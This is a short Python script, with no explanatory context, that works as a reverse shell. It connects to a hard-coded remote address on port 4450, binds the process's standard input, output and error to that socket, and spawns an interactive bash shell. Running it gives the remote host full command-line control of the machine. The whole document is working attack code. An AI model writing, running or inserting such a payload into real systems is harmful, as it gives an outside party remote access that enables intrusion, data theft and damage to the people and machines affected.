import os
import pty
import socket

RHOST = "203.0.113.15"


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((RHOST, 4450))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")


if __name__ == "__main__":
    main()
